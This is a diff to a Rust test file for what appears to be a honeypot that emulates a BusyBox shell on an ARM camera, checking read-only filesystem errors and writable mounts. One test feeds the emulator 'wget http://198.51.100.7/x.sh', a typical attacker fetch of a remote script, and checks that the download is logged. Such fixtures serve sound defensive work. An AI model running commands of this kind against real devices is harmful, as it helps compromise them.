@@ -128,6 +128,10 @@ fn binaries_are_32_bit_arm_links_to_busybox() {
         Some("/bin/busybox")
     );
     assert!(run(&mut sh, "ls -l /bin/echo").starts_with("lrwxrwxrwx"));
+    assert_eq!(
+        run(&mut sh, "ls /bin/echo /sbin/reboot"),
+        "/bin/echo\n/sbin/reboot\n"
+    );
     // BusyBox has no `file`; what it would say is the persona's.
     assert_eq!(
         run(&mut sh, "busybox file /bin/busybox"),
@@ -270,6 +274,59 @@ fn the_login_greets_with_the_devices_busybox_and_an_ash_prompt() {
     assert!(greeting.ends_with("~ # "), "{greeting}");
     run(&mut sh, "cd /tmp");
     assert_eq!(sh.prompt(), "/tmp # ");
+}
+
+#[test]
+fn the_squashfs_root_is_read_only_and_errors_are_busyboxs() {
+    let mut sh = device();
+    assert_eq!(
+        run(&mut sh, "echo x > /etc/x"),
+        "-sh: can't create /etc/x: Read-only file system\n"
+    );
+    assert_eq!(
+        run(&mut sh, "rm /bin/busybox"),
+        "rm: can't remove '/bin/busybox': Read-only file system\n"
+    );
+    assert_eq!(
+        run(&mut sh, "mkdir /root/.ssh"),
+        "mkdir: can't create directory '/root/.ssh': Read-only file system\n"
+    );
+    assert_eq!(
+        run(&mut sh, "touch /usr/x"),
+        "touch: /usr/x: Read-only file system\n"
+    );
+    // The download is still reported, though the camera could not keep it.
+    let out = sh.exec("wget http://198.51.100.7/x.sh");
+    assert!(
+        out.actions.iter().any(
+            |a| matches!(a, Action::Download { url, .. } if url == "http://198.51.100.7/x.sh")
+        )
+    );
+    assert!(String::from_utf8_lossy(&out.err).contains("Read-only file system"));
+    // The mounts /proc/mounts calls rw are writable.
+    for dir in ["/tmp", "/var/tmp", "/var/run", "/dev", "/mnt/mtd"] {
+        assert_eq!(
+            run(&mut sh, &format!("echo ok > {dir}/.w && cat {dir}/.w")),
+            "ok\n",
+            "{dir}"
+        );
+    }
+    assert_eq!(
+        run(&mut sh, "cat /nope"),
+        "cat: can't open '/nope': No such file or directory\n"
+    );
+    assert_eq!(
+        run(&mut sh, "ls /nope"),
+        "ls: /nope: No such file or directory\n"
+    );
+    assert_eq!(
+        run(&mut sh, "cd /nope"),
+        "-sh: cd: can't cd to /nope: No such file or directory\n"
+    );
+    assert_eq!(
+        run(&mut sh, "rm /tmp/nope"),
+        "rm: can't remove '/tmp/nope': No such file or directory\n"
+    );
 }
 
 #[test]
